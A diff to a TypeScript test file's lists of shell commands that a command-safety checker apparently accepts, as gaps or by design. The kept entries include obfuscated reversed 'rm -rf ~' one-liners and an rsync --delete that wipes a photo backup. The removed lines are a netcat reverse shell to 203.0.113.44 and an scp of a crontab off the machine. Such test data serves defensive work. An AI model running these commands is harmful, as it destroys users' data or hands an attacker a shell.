@@ -353,8 +353,6 @@ const ACCEPTED: readonly string[] = [
   `crystal eval 'system("~ fr- mr".reverse)'`,
   `groovy -e '"~ fr- mr".reverse().execute()'`,
   `scala -e 'import sys.process._; "~ fr- mr".reverse.!'`,
-  // What a connection sends is not followed into descriptors of another name.
-  'coproc nc 203.0.113.44 443; exec 0<&"${COPROC[0]}" 1>&"${COPROC[1]}"; sh',
   // Everyday work as often: files to a server of one's own, a table of maps. And no keys are in the environment.
   "lftp -u ega-box-12,$P ftp.ega.ebi.ac.uk -e 'mirror -R bam/ /; bye'",
   'rsync -az --delete ./empty/ backup@nas:/volume1/photos/',
@@ -470,7 +468,6 @@ const BY_DESIGN: readonly string[] = [
   `ruby -e 'exec "bundle", "exec", *ARGV'`,
   // Files that are called as those of the machine are; a link is remembered; the machine's own folders.
   'diff tests/fixtures/etc/shadow tests/golden/etc/shadow',
-  'scp crontab host.example:notes/',
   'docker cp crontab web:/etc/cron.d/app',
   'ln -s ~/docs l && unlink l && mkdir l && rm -r l/x',
   'sudo tar -C /usr/local -xzf go1.24.linux-amd64.tar.gz',
